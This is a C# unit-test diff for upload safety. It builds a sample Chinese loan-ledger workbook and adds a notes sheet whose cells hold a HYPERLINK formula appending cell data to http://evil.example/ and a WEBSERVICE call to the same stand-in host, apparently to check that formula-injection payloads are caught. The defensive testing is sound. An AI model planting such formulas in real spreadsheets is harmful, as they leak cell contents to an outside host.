@@ -59,8 +59,12 @@ public sealed class UploadSafetyTests(EmptyCounties counties)
     {
         using var clerk = await counties.Clerk();
         using var content = new MemoryStream();
-        using (var workbook = new XLWorkbook(new MemoryStream(Samples.Content(Samples.CityBank))))
+        using (var workbook = new XLWorkbook())
         {
+            var ledger = workbook.Worksheets.Add("贷款明细");
+            string[][] rows = [["单位：元"], ["借款人", "借据号", "贷款金额", "贷款余额", "放款日", "到期日"], ["云岭城投公司", "J-1", "100.00", "100.00", "2026-01-01", "2027-01-01"]];
+            for (var r = 0; r < rows.Length; r++)
+                for (var c = 0; c < rows[r].Length; c++) ledger.Cell(r + 1, c + 1).SetValue(rows[r][c]);
             var sheet = workbook.Worksheets.Add("附注");
             sheet.Cell("A1").FormulaA1 = "HYPERLINK(\"http://evil.example/\"&B1,\"点这里\")";
             sheet.Cell("A2").FormulaA1 = "WEBSERVICE(\"http://evil.example/\")";
